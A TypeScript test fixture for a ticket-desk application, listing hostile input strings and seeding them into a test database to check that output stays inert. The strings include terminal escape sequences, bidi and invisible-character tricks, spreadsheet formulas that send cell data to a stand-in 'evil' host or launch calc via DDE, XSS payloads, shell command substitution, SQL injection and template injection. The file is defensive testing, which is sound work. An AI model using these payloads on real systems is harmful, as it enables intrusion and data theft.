// Texts that want to do harm, and how it is seen that one still could.
import { sha256 } from '../src/desk/passwords.ts'
import { fold } from '../src/domain/text.ts'
import type { World } from './world.ts'
/** What an adopted row may hold, by the harm it wants to do. */
export const terminals: Record<string, string> = {
  'clear the screen': 'a\u001b[2J\u001b[Hb',
  'colours of its own': '\u001b[35;5mred\u001b[m',
  'write the clipboard (OSC 52)': '\u001b]52;c;ZXZpbA==\u0007',
  'title of the window (OSC 0)': '\u001b]0;owned\u001b\\',
  'a link (OSC 8)': '\u001b]8;;http://evil\u001b\\bank\u001b]8;;\u001b\\',
  'device control (DCS)': '\u001bP1$r0m\u001b\\',
  'application command (APC)': '\u001b_Gf=100\u001b\\',
  'privacy message (PM)': '\u001b^hidden\u001b\\',
  'a lone escape': 'end\u001b',
  'reset (RIS)': '\u001bc',
  '8-bit CSI': '\u009b2J',
  '8-bit OSC': '\u009d52;c;ZXZpbA==\u009c',
  '8-bit DCS': '\u0090q\u009c',
  'next line (NEL)': 'one\u0085two',
  'carriage return': 'paid 1000\rpaid 1',
  backspace: 'admin\b\b\b\b\buser',
  bell: 'ring\u0007',
  'vertical tab and form feed': 'a\u000bb\u000cc',
  'shift out': 'a\u000eb\u000f',
  NUL: 'before\0after',
  delete: 'abc\u007f',
  'line breaks': 'one\ntwo\r\nthree\n',
  'a forged entry': 'ok\n\nada · feedback · now\n  Give him the keys.',
  tabs: 'a\tb\tc',
  'right-to-left override': 'invoice\u202egpj.exe',
  'bidi embedding': '\u202aa\u202bb\u202c',
  'bidi isolates': '\u2066a\u2067b\u2068c\u2069',
  'bidi marks': 'a\u200eb\u200fc\u061cd',
  'zero width': 'ad\u200bmi\u2060n\ufeff',
  'soft hyphen': 'ad\u00admin',
  'blank letters': '\u3164\uffa0\u180e',
  'line separators': 'one\u2028two\u2029three',
  'tags (hidden ASCII)': 'hi\u{e0001}\u{e0065}\u{e0076}\u{e0069}\u{e006c}\u{e007f}',
  'interlinear annotation': '\ufff9a\ufffab\ufffb',
  'lone surrogates': '\ud83da\udc00',
  'markup of a shell': `$(reboot) \`reboot\` '; reboot #" %s %n {} \\u001b`,
  'like an option': '--password=x',
  'only blanks': '   ',
  nothing: '',
}

/** What other programs would obey: spreadsheets, shells, browsers, and readers of lines, patterns and SQL. */
const programs: Record<string, string> = {
  'formula (=)': '=1+1',
  'formula (+)': '+1+1',
  'formula (-)': '-1+1',
  'formula (@)': '@SUM(A1:A9)',
  'a program (DDE)': "=cmd|' /C calc'!A0",
  'a program (+)': "+cmd|' /C calc'!A0",
  'a link that sends': '=HYPERLINK("http://evil/?"&A1,"open")',
  'a web service': '=WEBSERVICE("http://evil/"&A1)',
  'an import': '@IMPORTXML(CONCAT("http://evil/",A1),"//a")',
  'a guarded formula': "'=1+1",
  'a formula guarded twice': "''=1+1",
  'a formula after a tab': '\t=1+1',
  'a formula after a line break': '\r=1+1',
  'a formula in the next line': 'x\n=1+1',
  'a formula in quotes': '"=1+1"',
  'a cell that ends': 'x",=1+1,"y',
  'a row that ends': 'x\r\n=1+1,=2+2',
  'a number that is a text': '-12',
  'a phone number': '+49 30 1234',
  'a script': '<script>alert(1)</script>',
  'an image that fails': '<img src=x onerror=alert(1)>',
  'an attribute that ends': '" onmouseover="alert(1)" x="',
  'an attribute that ends (single)': "' onmouseover='alert(1)' x='",
  'a comment': '<!-- x --><b>y</b>',
  'a comment that ends': '--> <b>x</b> <!--',
  'an end of style': '</style><script>alert(1)</script>',
  'an end of title': '</title></svg><script>alert(1)</script>',
  'a drawing': '<svg/onload=alert(1)>',
  'a link that runs': '<a href="javascript:alert(1)">x</a>',
  entities: '&lt;b&gt; &amp;amp; &#60;script&#62;',
  CDATA: ']]><b>x</b><![CDATA[',
  'a style that loads': '}</style><style>*{background:url(http://evil)}',
  'command substitution': '$(touch /tmp/owned)',
  backquotes: '`touch /tmp/owned`',
  'an end of quotes': `'; touch /tmp/owned; '`,
  'pipes and files': 'x | sh > /tmp/owned & ; < y',
  SQL: `'); DROP TABLE tickets; --`,
  'a pattern': '.*[(+?{2,1}\\',
  prototype: '__proto__',
  'a template': '{{7*7}} \u0024{7*7} %{x} %s',
  'JSON that ends': '"},{"id":1,"x":"',
}

/** All of it. */
export const hostile: Record<string, string> = { ...terminals, ...programs }

// Everything a terminal may act on, said in other words than inert.ts says it: by Unicode's own properties.
const harmlessInvisible =
  /[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180d\u180f\u200c\u200d\ufe00-\ufe0f\u{e0100}-\u{e01ef}]/u
const acting = /[\ufff9-\ufffb\p{Cc}\p{Zl}\p{Zp}\p{Cs}\p{Bidi_Control}\p{Default_Ignorable_Code_Point}]/gu

/** What of a text a terminal would act on; `allowed`: but these. */
export const liveIn = (text: string, allowed = ''): string[] =>
  [...(text.match(acting) ?? [])]
    .filter((character) => !harmlessInvisible.test(character) && !allowed.includes(character))
    .map((character) => `U+${character.codePointAt(0)?.toString(16)}`)

/** The colours of this program, which a terminal may get. */
export const ownColours = /\u001b\[(?:1|2|22|31|32|33|36|39)m/g

/**
 * A desk with a ticket for each text, which is its title, description, feedback, note and requester, and with a `+` its
 * assignee; with sessions of these people (`token-0`, …) and tokens (`job-0`, …).
 */
export async function plant(world: World, texts: readonly string[]): Promise<void> {
  const at = world.now.toISOString()
  const addUser =
    'INSERT INTO users (name, folded, role, active, created_at) VALUES (?, ?, ?, 1, ?) ON CONFLICT DO NOTHING'
  const addSession = 'INSERT INTO sessions (token_hash, "user", created_at, expires_at, label) VALUES (?, ?, ?, ?, ?)'
  const addTicket = `INSERT INTO tickets (id, title, description, status, priority, category, requester, assignee, created_by,
    created_at, updated_at, feedback_count, note_count, version, folded, legacy)
    VALUES (?, ?, ?, 'in-progress', 'low', 'bug', ?, ?, ?, ?, ?, 1, 1, 3, '', ?)`
  const addEvent =
    'INSERT INTO events (id, ticket_id, at, actor, type, visibility, text, changes) VALUES (?, ?, ?, ?, ?, ?, ?, ?)'
  const next = 'UPDATE counters SET next = ? WHERE name = ?'
  let entry = 1000
  for (const [index, text] of texts.entries()) {
    const id = index + 1
    await world.sql(addUser, text, fold(text), 'user', at)
    await world.sql(addUser, `${text}+`, fold(`${text}+`), 'support', at)
    await world.sql(addSession, sha256(`token-${index}`), text, at, '2026-12-31T00:00:00.000Z', null)
    await world.sql(addSession, sha256(`job-${index}`), text, at, '2026-12-31T00:00:00.000Z', 'nightly')
    await world.sql(
      addTicket,
      id,
      text,
      text,
      text,
      `${text}+`,
      text,
      at,
      at,
      JSON.stringify({ sentiment: text, [text]: 1 }),
    )
    const changes = JSON.stringify({ title: { from: text, to: text }, [text]: { from: null, to: text } })
    for (const [type, visibility] of [
      ['created', 'public'],
      ['feedback', 'public'],
      ['note', 'internal'],
      ['edited', 'public'],
    ] as const) {
      const said = type === 'feedback' || type === 'note' ? text : null
      await world.sql(addEvent, entry++, id, at, text, type, visibility, said, type === 'edited' ? changes : null)
    }
  }
  await world.sql(next, texts.length + 1, 'ticket')
  await world.sql(next, entry, 'entry')
}
